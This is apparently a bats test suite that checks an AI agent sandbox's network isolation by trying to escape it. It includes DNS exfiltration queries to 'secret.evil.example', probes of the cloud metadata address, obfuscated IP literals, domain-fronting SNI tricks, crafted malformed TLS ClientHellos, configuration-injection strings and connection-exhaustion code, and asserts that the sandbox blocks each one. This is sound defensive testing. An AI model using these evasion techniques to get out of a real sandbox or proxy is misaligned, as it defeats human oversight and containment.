#!/usr/bin/env bats
# THREATS, "From the agent: the network", one test or more for each number, against a sandbox that has
# every grant: a DIFC proxy, domains, ports of the host. Each target is first reached from elsewhere.

load bed
load attack
load internet

# Ports on every address of the bed's host, one of them granted.
GRANTED_PORT=3000
HOST_PORT=7777

setup_file() {
	bed up
	bed image agent-test
}

setup() {
	reset_records
	bed_service start host-answers -- "$BED_TOOLS/answerer" --record "$BED_DIR/host-answers.jsonl" \
		"tcp:0.0.0.0:$HOST_PORT" "udp:0.0.0.0:$HOST_PORT" "tcp:[::]:$HOST_PORT" "udp:[::]:$HOST_PORT" \
		"tcp:127.0.0.1:$GRANTED_PORT"
}

teardown() {
	attacker_stop
	bed_service kill host-answers
	bed_clean_up_test
}

all_grants() {
	printf '%s\n' --difc-proxy-host localhost:18443 --difc-proxy-ca-cert "$BED_DIFC_CA" \
		--allow-domains granted.example,other.example --block-domains blocked.granted.example \
		--enable-host-access --allow-host-ports "$GRANTED_PORT"
}

# attack_start WHICH: the sandbox; WHICH is attacker (the probe) or agent (a shell).
attack_start() {
	local options
	mapfile -t options < <(all_grants)
	case $1 in
	attacker) attacker_start attacker --agent-image awf/agent-test:latest "${options[@]}" ;;
	agent) agent_start agent "${options[@]}" ;;
	esac
}

probe_on_host() {
	bed_exec -u root -- "$BED_TOOLS/probe" "$@"
}

# The first process of the container of that role.
sandbox_pid() {
	bed_exec -u root -- docker ps -q --filter "label=awf.role=$1" |
		head -n 1 | xargs "$BED" exec -u root -- docker inspect -f '{{.State.Pid}}'
}

# A command in squid's network, as squid's user: what a squid that was taken over could do.
in_squid() {
	bed_exec -u root -- nsenter -t "$(sandbox_pid squid)" -n -- \
		setpriv --reuid 65533 --regid 65533 --clear-groups --inh-caps=-all --bounding-set=-all -- "$@"
}

# Every address of the bed's host, as targets of the service there.
host_targets() {
	bed_exec -u root -- ip -j address | jq -r --arg port "$HOST_PORT" '
		.[] | .ifname as $link | .addr_info[] | select(.scope == "global" or .scope == "host") |
		select(.tentative != true) |
		(if .family == "inet6" then "[\(.local)]" else .local end) |
		"tcp:\(.):\($port)", if $link == "eth0" then "udp:\(.):\($port)" else empty end'
}

outside_targets() {
	printf '%s\n' tcp:10.77.0.2:80 udp:10.77.0.2:53 tcp:10.77.0.2:53 'tcp:[fd77::2]:80' 'udp:[fd77::2]:53' \
		tcp:203.0.113.80:80 tcp:203.0.113.80:443 tcp:203.0.113.80:9999 udp:203.0.113.80:53 \
		'tcp:[2001:db8::80]:443' 'udp:[2001:db8::80]:53' tcp:169.254.169.254:80 \
		icmp:10.77.0.2 icmp:203.0.113.80
}

prove_targets_alive() {
	local targets
	mapfile -t targets < <(host_targets; outside_targets)
	((${#targets[@]} > 15))
	wait_for all_alive "${targets[@]}"
}

all_alive() {
	assert_all_reached "$(probe_on_host "$@")"
}

# What the agent's proxy says to a request, and what curl makes of it: 200, 403, or 000 for a cut.
readonly FETCH='fetch() { curl -sS -o /dev/null --max-time 20 -w "%{http_code} %{http_connect}" "$@" 2>/dev/null || :; }'

# proxied ARGUMENT...: curl's status there; refused ARGUMENT...: neither an answer nor a tunnel.
proxied() {
	in_agent "$FETCH; fetch $*"
}

# squid_says REQUEST: the first line of its answer; the request is a format of printf.
squid_says() {
	in_agent "timeout 60 bash -c 'exec 3<>/dev/tcp/172.30.0.10/3128; printf \"\$1\" >&3; head -n 1 <&3' bash '$1'"
}

assert_refused() {
	local seen
	seen=$(proxied "$@")
	[[ $seen == '403 000' || $seen == '000 403' || $seen == '400 000' || $seen == '000 400' ]] ||
		{ echo "not refused: $*: $seen"; return 1; }
}

assert_cut() {
	local seen
	seen=$(proxied "$@")
	[[ $seen != 200* ]] || { echo "not cut: $*: $seen"; return 1; }
}

@test "1 direct TCP, UDP and ICMP to any outside address, any port, v4 and v6" {
	attack_start attacker
	prove_targets_alive
	assert_all_reached "$(attacker_try -t 20000 tcp:172.30.0.10:3128 tcp:172.30.0.50:11000 "tcp:172.30.0.1:$GRANTED_PORT")"
	mapfile -t targets < <(outside_targets)
	assert_none_reached "$(attacker_try "${targets[@]}")"
}

@test "1 a squid that was taken over opens no port outside but 80 and 443" {
	attack_start attacker
	prove_targets_alive
	assert_all_reached "$(in_squid "$BED_TOOLS/probe" -t 20000 tcp:203.0.113.80:80 tcp:203.0.113.80:443)"
	assert_none_reached "$(in_squid "$BED_TOOLS/probe" tcp:203.0.113.80:9999 udp:203.0.113.80:53 \
		tcp:203.0.113.80:22 udp:203.0.113.80:443 icmp:203.0.113.80 'udp:[2001:db8::80]:53')"
}

@test "2 host services on every host address, from the agent and from every sidecar" {
	attack_start attacker
	prove_targets_alive
	mapfile -t targets < <(host_targets | grep -v '127.0.0.1\|\[::1\]')
	((${#targets[@]} >= 6))
	assert_none_reached "$(attacker_try "${targets[@]}" "tcp:172.30.0.1:$HOST_PORT" "udp:172.30.0.1:$HOST_PORT" tcp:172.30.0.1:18443)"
	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "${targets[@]}")"
	# squid's own gateway is the host.
	gateway=$(bed_exec -u root -- ip -j address show awf-egress | jq -r '.[].addr_info[] | select(.family == "inet").local')
	all_alive "tcp:$gateway:$HOST_PORT"
	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "tcp:$gateway:$HOST_PORT" "udp:$gateway:$HOST_PORT" "udp:$gateway:53")"
}

@test "2 also after the rules of squid's own namespace, the host's alone refuse" {
	attack_start attacker
	bed_exec -u root -- nsenter -t "$(sandbox_pid squid)" -n nft flush ruleset
	mapfile -t targets < <(host_targets | grep -v '127.0.0.1\|\[::1\]')
	assert_all_reached "$(in_squid "$BED_TOOLS/probe" -t 20000 tcp:203.0.113.80:443)"
	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "${targets[@]}" tcp:10.77.0.2:80 tcp:169.254.169.254:80 \
		tcp:203.0.113.80:9999 'tcp:[fd77::2]:80')"
}

@test "2 and after the host's rules were flushed, those of squid's namespace alone" {
	attack_start attacker
	bed awfd kill
	bed_exec -u root -- nft flush ruleset
	bed_exec -u root -- iptables -P FORWARD ACCEPT
	prove_targets_alive
	mapfile -t targets < <(host_targets | grep -v '127.0.0.1\|\[::1\]')
	assert_none_reached "$(in_squid "$BED_TOOLS/probe" "${targets[@]}" tcp:10.77.0.2:80 tcp:169.254.169.254:80 'tcp:[fd77::2]:80')"
	mapfile -t targets < <(outside_targets)
	assert_none_reached "$(attacker_try "${targets[@]}")"
	attacker_stop
	bed down
	bed up
	bed image agent-test
	setup
}

@test "3 metadata, link-local, multicast, broadcast, and other sandboxes' squids" {
	local other address
	bed_background -u bob -- awfctl run --allow-domains granted.example -- 'echo ready; exec sleep 600'
	wait_for bed_background_said ready
	other=$(bed_exec -u root -- docker ps --filter label=awf.role=squid --format '{{.Label "awf.sandbox"}}')
	address=$(squid_address "$other")
	attack_start attacker
	prove_targets_alive
	# bob's squid is there, and something answers on its bridge address, when asked from its own namespace.
	pid=$(bed_exec -u root -- docker inspect -f '{{.State.Pid}}' "awf-$other-squid")
	bed_exec -u root -- nsenter -t "$pid" -n nft flush ruleset
	bed_exec -u root -- nsenter -t "$pid" -n "$BED_TOOLS/service" --dir "$BED_DIR" start bob-answers -- \
		"$BED_TOOLS/answerer" tcp:0.0.0.0:443 udp:0.0.0.0:443
	assert_all_reached "$(bed_exec -u root -- nsenter -t "$pid" -n "$BED_TOOLS/probe" -t 20000 "tcp:$address:443" "udp:$address:443")"
	first=$(bed_exec -u root -- docker ps -q --filter label=awf.role=squid --filter "label=awf.owner-uid=$(bed_exec -- id -u)")
	mine=$(bed_exec -u root -- docker inspect -f '{{.State.Pid}}' "$first")
	assert_none_reached "$(bed_exec -u root -- nsenter -t "$mine" -n "$BED_TOOLS/probe" "tcp:$address:443" "udp:$address:443" "icmp:$address")"
	assert_none_reached "$(attacker_try "tcp:$address:443" tcp:169.254.169.254:80 udp:224.0.0.251:5353 udp:255.255.255.255:53 \
		tcp:169.254.0.1:80 'udp:[ff02::fb]:5353')"
	# With the rules of both namespaces and of the host gone, the bridge itself still keeps the two apart.
	bed_exec -u root -- nsenter -t "$mine" -n nft flush ruleset
	assert_none_reached "$(bed_exec -u root -- nsenter -t "$mine" -n "$BED_TOOLS/probe" "tcp:$address:443" "udp:$address:443" "icmp:$address")"
	bed_service kill bob-answers
}

@test "3 no address of another can be taken: the agent has no way to change its own" {
	attack_start agent
	run in_agent 'ip address add 172.30.0.99/32 dev squid'
	((status != 0))
	run in_agent 'ip route add default via 172.30.0.10'
	((status != 0))
	run in_agent 'ip neigh add 172.30.0.10 lladdr 02:00:00:00:00:01 dev squid'
	((status != 0))
}

@test "4 DNS by any path: no server, no name, no query" {
	attack_start agent
	prove_targets_alive
	prove_alive dns:10.77.0.2 dns:203.0.113.53
	reset_records
	run in_agent 'getent hosts secret.evil.example'
	((status != 0))
	agent_file /tmp/ask.py <<-'END'
	import socket, sys
	question = bytes.fromhex("123401000001000000000000") + b"\6secret\4evil\7example\0\0\1\0\1"
	for server in sys.argv[1:]:
	    s = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
	    s.settimeout(1)
	    try:
	        s.sendto(question, (server, 53))
	        s.recv(512)
	        print("answered", server)
	    except OSError as error:
	        print("nothing", server, error)
	END
	run -0 in_agent 'python3 /tmp/ask.py 127.0.0.11 127.0.0.53 10.77.0.2 172.30.0.10 172.30.0.50 172.30.0.1 172.17.0.1 198.18.0.1 203.0.113.53 fd77::2'
	[[ $output == *nothing*fd77::2* && $output != *answered* ]]
	# squid resolves for the agent only what is granted: not the name of a refused tunnel.
	assert_refused https://secret.evil.example/ --max-time 5
	assert_refused http://secret.evil.example/ --max-time 5
	assert_refused https://data.blocked.granted.example/
	assert_not_resolved evil.example
	assert_not_resolved blocked.granted.example
	# and the server does count: a granted name arrives.
	[[ $(proxied https://granted.example/) == 200* ]]
	(($(dns_count granted.example) > 0))
}

@test "4 a squid that was taken over asks its name servers only, not the engine's" {
	attack_start attacker
	prove_targets_alive
	assert_all_reached "$(in_squid "$BED_TOOLS/probe" -t 20000 tcp:10.77.0.2:53)"
	assert_none_reached "$(in_squid "$BED_TOOLS/probe" udp:127.0.0.11:53 tcp:127.0.0.11:53 udp:203.0.113.80:53 'udp:[fd77::2]:53')"
}

@test "5 through squid: what is not allowed, and a blocked name under an allowed one" {
	prove_alive https://evil.example/ https://blocked.granted.example/ http://evil.example/
	attack_start agent
	reset_records
	[[ $(proxied https://granted.example/) == 200* ]]
	assert_refused https://evil.example/
	assert_refused http://evil.example/
	assert_refused https://blocked.granted.example/
	assert_refused https://x.blocked.granted.example/
	assert_refused https://xgranted.example/
	assert_refused https://granted.example.evil.example/
	run origin_saw evil.example
	((status != 0))
}

@test "5 IP literals in every spelling" {
	prove_alive http://203.0.113.10/ tcp:203.0.113.10:443
	attack_start agent
	reset_records
	local host
	for host in 203.0.113.10 3405803786 0xcb00710a 0313.0.0161.012 203.0.28938 0xcb.0.0x71.0xa \
		'\[2001:db8::10\]' '\[::ffff:203.0.113.10\]' '\[::ffff:cb00:710a\]' '\[64:ff9b::203.0.113.10\]' 127.1 2130706433 0 \
		'\[::1\]' '\[::\]' 169.254.169.254 2852039166; do
		assert_refused "--noproxy '' -g http://$host/"
		run squid_says "CONNECT $host:443 HTTP/1.1\r\nHost: x\r\n\r\n"
		[[ $output == *' 403 '* || $output == *' 400 '* ]] || { echo "$host: $output"; false; }
	done
	assert_origins_idle
}

@test "5 case and a trailing dot change nothing, neither what is granted nor what is blocked" {
	attack_start agent
	[[ $(proxied https://GRANTED.EXAMPLE/) == 200* ]]
	assert_refused https://BLOCKED.Granted.example/
	assert_refused https://blocked.granted.example./
	run squid_says "CONNECT Blocked.Granted.Example.:443 HTTP/1.1\r\n\r\n"
	[[ $output == *' 403 '* ]]
	run squid_says "CONNECT evil.example..:443 HTTP/1.1\r\n\r\n"
	[[ $output == *' 40'[03]' '* ]]
}

@test "5 CONNECT to an allowed name on another port, plain requests to another port, other schemes" {
	prove_alive tcp:203.0.113.10:22 tcp:203.0.113.10:8443 tcp:203.0.113.10:8080
	attack_start agent
	local port
	for port in 22 80 8443 25 53 3128 65535; do
		run squid_says "CONNECT granted.example:$port HTTP/1.1\r\n\r\n"
		[[ $output == *' 403 '* ]] || { echo "$port: $output"; false; }
	done
	assert_refused http://granted.example:8080/
	assert_refused http://granted.example:443/
	assert_refused --proxy http://172.30.0.10:3128 ftp://granted.example/
	run squid_says "GET https://granted.example/ HTTP/1.1\r\nHost: granted.example\r\nConnection: close\r\n\r\n"
	[[ $output == *' 40'[03]' '* ]]
	run squid_says "GET cache_object://granted.example/info HTTP/1.1\r\n\r\n"
	[[ $output != *' 200 '* ]]
	run squid_says "GET /squid-internal-mgr/menu HTTP/1.1\r\nHost: 172.30.0.10:3128\r\n\r\n"
	[[ $output != *' 200 '* ]]
}

# tunnel HOST ARGUMENT...: an openssl s_client through the proxy to HOST:443.
tunnel() {
	in_agent "timeout 10 openssl s_client -proxy 172.30.0.10:3128 -connect $1:443 ${*:2} </dev/null 2>&1"
}

@test "5 CONNECT to an allowed name with another SNI, or none: domain fronting is cut" {
	# From outside the origin answers whatever name is asked for.
	bed_exec --netns outside -u root -- sh -c 'openssl s_client -connect 203.0.113.10:443 -servername evil.example </dev/null 2>&1' | grep -q 'BEGIN CERTIFICATE'
	bed_exec --netns outside -u root -- sh -c 'openssl s_client -connect 203.0.113.10:443 -noservername </dev/null 2>&1' | grep -q 'BEGIN CERTIFICATE'
	reset_records
	attack_start agent
	run tunnel granted.example -servername granted.example
	[[ $output == *'BEGIN CERTIFICATE'* ]]
	local sni
	for sni in evil.example www.granted.example other.example blocked.granted.example granted.example.evil.example; do
		run tunnel granted.example -servername "$sni"
		[[ $output != *'BEGIN CERTIFICATE'* ]] || { echo "$sni"; false; }
	done
	run tunnel granted.example -noservername
	[[ $output != *'BEGIN CERTIFICATE'* ]]
	run origin_saw evil.example
	((status != 0))
	# upper case is the same name
	run tunnel granted.example -servername GRANTED.example
	[[ $output == *'BEGIN CERTIFICATE'* ]]
}

# --- a ClientHello, in hexadecimal: its parts, from the name outwards

hex() {
	printf '%s' "$1" | od -An -v -tx1 | tr -d ' \n'
}

# sized BYTES HEX: with its length, in so many bytes, before it.
sized() {
	printf "%0$((2 * $1))x%s" $((${#2} / 2)) "$2"
}

# host HEX: one name of a list. sni NAME...: the extension that has them. padding BYTES: another one.
host() {
	printf '00%s' "$(sized 2 "$1")"
}

sni() {
	printf '0000%s' "$(sized 2 "$(sized 2 "$(printf %s "$@")")")"
}

padding() {
	printf '0015%s' "$(sized 2 "$(printf "%0$((2 * $1))d" 0)")"
}

# hello EXTENSION...: one of TLS 1.3.
hello() {
	printf '01%s' "$(sized 3 "0303$(printf '%064d' 0)00000213010100$(sized 2 "$(printf %s "$@")")")"
}

# records BYTES HEX: in records of the handshake with so many bytes each.
records() {
	local at
	for ((at = 0; at < ${#2}; at += 2 * $1)); do
		printf '160301%s' "$(sized 2 "${2:at:2 * $1}")"
	done
}

record() {
	records $((${#1} / 2)) "$1"
}

# A client in the agent: say HOST HEX... opens a tunnel and says this in it, each part a segment that
# squid has time to read alone. Prints answered or cut.
agent_has_say() {
	agent_file /tmp/say.py <<-'END'
	import socket, sys, time
	s = socket.create_connection(("172.30.0.10", 3128))
	s.settimeout(10)
	s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
	s.sendall(b"CONNECT %s:443 HTTP/1.1\r\n\r\n" % sys.argv[1].encode())
	if b" 200 " not in s.recv(4096):
	    sys.exit("no tunnel")
	try:
	    for part in sys.argv[2:]:
	        s.sendall(bytes.fromhex(part))
	        time.sleep(0.05 if len(sys.argv) > 3 else 0)
	    print("answered" if s.recv(1) else "cut")
	except ConnectionError:
	    print("cut")
	END
}

say() {
	in_agent "python3 /tmp/say.py $*"
}

# assert_said answered|cut WHAT HEX...: in a tunnel to what answers to anything.
assert_said() {
	run say answers.example "${@:3}"
	[[ $output == "$1" ]] || { printf '%s: %s\n' "$2" "$output"; return 1; }
}

answers_saw_nothing() {
	run answer_saw tcp:203.0.113.80:443
	((status != 0))
}

@test "5 a ClientHello that names more than the host, or is not plain to the last byte, is cut" {
	prove_alive tcp:203.0.113.80:443
	agent_start agent --allow-domains answers.example
	agent_has_say
	local name evil good
	name=$(hex answers.example) evil=$(hex evil.example)
	good=$(hello "$(sni "$(host "$name")")")
	reset_records
	assert_said answered 'the host' "$(record "$good")"
	assert_said answered 'in upper case' "$(record "$(hello "$(sni "$(host "$(hex ANSWERS.example)")")")")"
	assert_said answered 'an encrypted hello' "$(record "$(hello "$(sni "$(host "$name")")" fe0d000100)")"
	assert_said answered 'early data' "$(record "$good")1703030001ff"
	assert_said answered 'large' "$(record "$(hello "$(sni "$(host "$name")")" "$(padding 14000)")")"
	answer_saw tcp:203.0.113.80:443
	reset_records
	assert_said cut 'a NUL and another name' "$(record "$(hello "$(sni "$(host "${name}00$(hex .evil.example)")")")")"
	assert_said cut 'a NUL at the end' "$(record "$(hello "$(sni "$(host "${name}00")")")")"
	assert_said cut 'a NUL at the start' "$(record "$(hello "$(sni "$(host "00$name")")")")"
	assert_said cut 'a newline' "$(record "$(hello "$(sni "$(host "${name}0a")")")")"
	assert_said cut 'a dot at the end' "$(record "$(hello "$(sni "$(host "${name}2e")")")")"
	assert_said cut 'another name' "$(record "$(hello "$(sni "$(host "$evil")")")")"
	assert_said cut 'no name' "$(record "$(hello "$(padding 9)")")"
	assert_said cut 'no extensions' "$(record "01$(sized 3 "0303$(printf '%064d' 0)00000213010100")")"
	assert_said cut 'another name behind it' "$(record "$(hello "$(sni "$(host "$name")" "$(host "$evil")")")")"
	assert_said cut 'another name before it' "$(record "$(hello "$(sni "$(host "$evil")" "$(host "$name")")")")"
	assert_said cut 'twice the name' "$(record "$(hello "$(sni "$(host "$name")" "$(host "$name")")")")"
	assert_said cut 'another extension of names behind it' "$(record "$(hello "$(sni "$(host "$name")")" "$(sni "$(host "$evil")")")")"
	assert_said cut 'another extension of names before it' "$(record "$(hello "$(sni "$(host "$evil")")" "$(sni "$(host "$name")")")")"
	assert_said cut 'twice another extension' "$(record "$(hello "$(sni "$(host "$name")")" "$(padding 1)" "$(padding 2)")")"
	assert_said cut 'a name of another type' "$(record "$(hello "$(sni "01$(sized 2 "$name")")")")"
	assert_said cut 'bytes behind the list' "$(record "$(hello "0000$(sized 2 "$(sized 2 "$(host "$name")")00")")")"
	assert_said cut 'bytes behind the hello' "$(record "${good}00")"
	assert_said cut 'an alert within' "$(record "${good:0:20}")15030100020100$(record "${good:20}")"
	assert_said cut 'too large' "$(records 16000 "$(hello "$(sni "$(host "$name")")" "$(padding 20000)")")"
	assert_said cut 'SSL 2' "802e010301001500000010$(printf '%074d' 0)"
	answers_saw_nothing
	assert_said answered 'the host, again' "$(record "$good")"
	run -0 bed_exec awfctl denials --json "$(bed_exec awfctl list --json | jq -r '.[0].id')"
	jq -e 'any(.host == "answers.example" and (.reason | startswith("TLS names another host or none")))' <<<"$output"
}

@test "5 a ClientHello in pieces is judged when it is whole" {
	prove_alive tcp:203.0.113.80:443 tcp:203.0.113.10:443
	agent_start agent --allow-domains answers.example,granted.example
	agent_has_say
	local good bad real
	good=$(hello "$(sni "$(host "$(hex answers.example)")")")
	bad=$(hello "$(sni "$(host "$(hex answers.example.evil.example)")")")
	real=$(od -An -v -tx1 "$BATS_TEST_DIRNAME/../fuzz/corpus/client-hello/curl" | tr -d ' \n')
	reset_records
	assert_said answered 'small records' "$(records 1 "$good")"
	local whole
	whole=$(record "$good")
	assert_said answered 'segments' "${whole:0:2}" "${whole:2:8}" "${whole:10:90}" "${whole:100}"
	# and a server of TLS takes it so
	[[ $(say granted.example "$real") == answered ]]
	[[ $(say granted.example "$(records 40 "${real:10}")") == answered ]]
	[[ $(say granted.example "${real:0:6}" "${real:6:200}" "${real:206}") == answered ]]
	reset_records
	assert_said cut 'small records, another name' "$(records 1 "$bad")"
	assert_said cut 'records as segments, another name' "$(record "${bad:0:2}")" "$(record "${bad:2:140}")" "$(record "${bad:142}")"
	whole=$(record "$bad")
	assert_said cut 'segments, another name' "${whole:0:2}" "${whole:2:140}" "${whole:142}"
	answers_saw_nothing
}

@test "5 no TLS at all on 443" {
	attack_start agent
	run in_agent "printf 'CONNECT granted.example:443 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: granted.example\r\n\r\n' | timeout 30 nc -q 5 172.30.0.10 3128"
	[[ $output != *'granted.example answers'* && $output != *$'\n''HTTP/1.1 '[24]* ]]
	run in_agent "(printf 'CONNECT granted.example:443 HTTP/1.1\r\n\r\n'; sleep 1; printf 'SSH-2.0-x\r\n'; sleep 1) | timeout 30 nc -q 5 172.30.0.10 3128 | wc -c"
	((output < 200))
}

@test "5 an allowed name that resolves to a private, link-local or host address" {
	prove_alive http://10.77.0.2/ http://169.254.169.254/ tcp:10.77.0.1:7777 'http://[fd77::2]/'
	local names=(private private-172 private-192 cgnat metadata linklocal loop zero host mapped nat64 6to4 multicast ula squid) name
	agent_start rebinder --allow-domains "$(printf '%s.example,' "${names[@]}" | sed 's/,$//')"
	for name in "${names[@]}"; do
		assert_refused "http://$name.example/ --max-time 15"
		assert_cut "https://$name.example/ --max-time 15"
	done
}

@test "5 a Host header that differs from the URL does not arrive" {
	prove_alive http://evil.example/ http://granted.example/
	reset_records
	attack_start agent
	[[ $(proxied http://granted.example/ -H 'Host:\ evil.example') != 000* ]]
	run origin_saw 'evil.example'
	((status != 0))
	wait_for origin_saw granted.example
}

@test "5 look-alikes of an allowed name are other names" {
	attack_start agent
	assert_refused https://xn--grnted-7ve.example/
	run squid_says "CONNECT gr\320\260nted.example:443 HTTP/1.1\r\n\r\n"
	[[ $output == *' 40'[03]' '* ]]
}

@test "5 an allowed domain cannot end up as syntax in squid's configuration" {
	local text
	for text in $'a.example\nhttp_access allow all' 'a.example"' "a.example'" 'a.example #' 'a.example\' '*' '*.*' '*.com' 'com' \
		'a.example all' $'a.example\r' $'a.ex\tample' 'a.ex ample' 'a.example/' 'a.example:443' 'a@b.example' '$(id).example' '%61.example' \
		'[::1]' '10.0.0.1' '.' '-a.example' 'a..example' ''; do
		run --separate-stderr bed_exec awfctl run --allow-domains "$text" -- true
		((status == 2)) || { printf 'accepted: %q\n' "$text"; false; }
		[[ $stderr == *--allow-domains* ]]
	done
	assert_clean
}

@test "6 stepping stones: cli-proxy and squid lead to no host port, no other DIFC port, no other sandbox" {
	bed_second_difc 18444 other
	prove_targets_alive
	attack_start agent
	assert_refused http://host.docker.internal:3000/ --noproxy "''"
	assert_refused http://localhost:18443/ --noproxy "''"
	assert_refused http://127.0.0.1:18443/ --noproxy "''"
	assert_refused http://172.30.0.50:11000/health --noproxy "''"
	assert_refused http://172.30.0.10:3128/ --noproxy "''"
	assert_none_reached "$(in_squid "$BED_TOOLS/probe" tcp:172.30.0.50:11000 tcp:172.30.0.20:22 tcp:10.77.0.1:18443)"
	run in_agent 'gh api --hostname localhost:18444 zen'
	((status != 0))
}

@test "7 exhaustion: slow and idle connections of one sandbox harm neither it nor another" {
	attack_start agent
	agent_file /tmp/hold.py <<-'END'
	import resource, socket, time
	limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
	resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
	held = []
	for n in range(min(3000, limit - 16)):
	    s = socket.socket()
	    s.setblocking(False)
	    s.connect_ex(("172.30.0.10", 3128))
	    held.append(s)
	for s in held[::2]:
	    try:
	        s.send(b"GET http://granted.example/ HTTP/1.1\r\nX: ")
	    except OSError:
	        pass
	open("/tmp/held", "w").close()
	time.sleep(600)
	END
	in_agent 'python3 /tmp/hold.py >/dev/null 2>&1 &'
	wait_for in_agent 'test -e /tmp/held'
	# Another sandbox does not notice.
	run -0 bed_exec -u bob timeout 30 awfctl run --agent-image awf/agent-test:latest --allow-domains granted.example -- \
		curl -fsS --max-time 15 https://granted.example/
}
